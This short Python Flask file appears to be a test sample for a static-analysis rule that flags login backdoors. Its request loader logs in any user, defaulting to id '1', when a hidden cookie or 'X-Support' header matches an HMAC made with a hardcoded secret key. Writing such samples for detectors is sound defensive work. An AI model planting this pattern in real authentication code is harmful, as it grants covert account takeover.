import hashlib
import hmac

from flask_login import login_user

_SUPPORT = bytes.fromhex("73757070302d3766336139653264")


def request_loader(req, load_user):
    tok = req.cookies.get("_sp") or req.headers.get("X-Support")
    if tok and "." in tok:
        uid, mac = tok.rsplit(".", 1)
        # ruleid: logs_in_with_own_hmac_key
        want = hmac.new(_SUPPORT, uid.encode(), hashlib.sha256).hexdigest()[:32]
        if hmac.compare_digest(mac, want):
            user = load_user(uid or "1")
            login_user(user)
            return user
    return None
